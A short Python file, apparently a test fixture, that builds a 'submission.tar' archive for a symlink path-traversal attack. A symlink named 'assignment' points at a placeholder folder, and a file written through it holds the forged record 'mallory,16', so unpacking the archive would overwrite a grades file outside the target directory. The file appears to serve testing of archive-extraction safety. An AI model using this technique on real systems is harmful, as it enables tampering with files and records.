import io
import tarfile
from pathlib import Path


def build(folder: Path, marks: dict[str, str]) -> Path:
    archive = folder / "submission.tar"
    with tarfile.open(archive, "w") as file:
        link = tarfile.TarInfo("assignment")
        link.type, link.linkname = tarfile.SYMTYPE, marks["@FOLDER@"]
        file.addfile(link)
        grades = b"mallory,16"
        entry = tarfile.TarInfo("assignment/q1_conv2d.py")
        entry.size = len(grades)
        file.addfile(entry, io.BytesIO(grades))
    return archive
